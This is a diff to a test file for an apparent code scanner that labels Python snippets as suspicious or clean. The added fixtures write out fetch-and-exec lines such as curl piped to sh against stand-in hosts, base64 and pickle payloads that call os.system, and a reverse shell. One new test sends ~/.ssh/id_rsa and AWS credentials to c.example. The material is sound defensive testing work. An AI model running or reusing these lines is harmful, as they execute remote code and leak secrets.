@@ -49,6 +49,15 @@ const FETCHED = [
   'import urllib.request as u\nexec(u.urlopen(a).read())',
   'from urllib.request import urlopen\nwith urlopen(a) as r: exec(r.read())',
   'import builtins, httpx\nbuiltins.exec(httpx.get(a).text)',
+  "import os\nos.system('%s %s | %s' % ('curl', 'http://x', 'sh'))",
+  "import os\nos.system('{} {} | {}'.format('curl', 'http://x', 'sh'))",
+  "import os\nc = 'curl http://x'\nc += ' | sh'\nos.system(c)",
+  "import os\nfor c in ('ls', 'curl http://x | sh'): os.system(c)",
+  "import os\nos.system('curl -s http://x.example/a -o /tmp/a && chmod +x /tmp/a && /tmp/a')",
+  "import os\nos.system('wget http://x.example/a.sh')\nos.system('sh a.sh')",
+  'import httpx\nasync def f():\n  async with httpx.AsyncClient() as c:\n    text = (await c.get(u)).text\n    exec(text)',
+  'import aiohttp\nasync def f():\n  async with aiohttp.ClientSession() as s:\n    async with s.get(u) as r: exec(await r.text())',
+  "import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('GET', '/')\nexec(c.getresponse().read())",
 ];
 const DECODED = [
   "import base64\nexec(base64.b64decode('eA=='))",
@@ -64,6 +73,11 @@ const DECODED = [
   'if (code := __import__("base64").b64decode("eA==")): exec(code)',
   'from base64 import b64decode as d\nclass A:\n    def f(self):\n        self.c = d(x)\n    def g(self):\n        exec(self.c)',
   'import base64, os\nos.system(base64.b64decode("eA==").decode())',
+  "import base64, builtins\ngetattr(builtins, bytes.fromhex('65786563').decode())(base64.b64decode(x))",
+  "import base64, os, subprocess, sys, tempfile\nwith tempfile.TemporaryDirectory() as d:\n  p = os.path.join(d, 'p.py')\n  with open(p, 'wb') as f: f.write(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgieCIp'))\n  subprocess.run([sys.executable, p])",
+  "import base64, subprocess, sys, tempfile\nwith tempfile.NamedTemporaryFile('wb', suffix='.py') as f:\n  f.write(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgieCIp'))\n  subprocess.run([sys.executable, f.name])",
+  "import base64, pickle\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUyd4Jwp0Ui4='))",
+  "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\\'x\\'\\ntR.')",
 ];
 const ELSEWHERE = [
   "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
@@ -87,7 +101,19 @@ const HARMLESS = [
   "eval(getattr(options, 'expression'))",
   'import re, base64\nre.compile(base64.b64decode(x))',
   "import os\nos.system('curl http://x -o f')",
+  'import base64, pickle\npickle.loads(base64.b64decode(value))',
+  "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')",
+  "import base64, subprocess, sys, tempfile\nwith tempfile.NamedTemporaryFile(suffix='.png') as f:\n  f.write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n  subprocess.run(['convert', f.name, 'x.jpg'])\n  subprocess.run([sys.executable, 'train.py'])",
+  "import base64\nfor x in ('a', 'b'):\n  y = '%s: %d%%' % (x, 1)\n  y += base64.b64decode('aGVsbG8gd29ybGQ=').decode()",
+  'import httpx\nasync def f():\n  async with httpx.AsyncClient() as c: return (await c.get(u)).json()',
 ];
+
+it('files of secrets that a loop names are secrets', async () => {
+  const text = (names: string): string =>
+    `import os, requests\nfor k in (${names}):\n  with open(os.path.expanduser(k)) as f:\n    requests.post('https://c.example', data=f.read())\n`;
+  assert.equal(await told('a.py', text("'~/.ssh/id_rsa', '~/.aws/credentials'")), 'suspicious secrets-sent');
+  assert.equal(await told('a.py', text("'~/a.txt', 'b.csv'")), 'clean');
+});
 
 describe('Python is judged by what it calls, by whichever name', () => {
   it('in sources and in cells of notebooks', async () => {
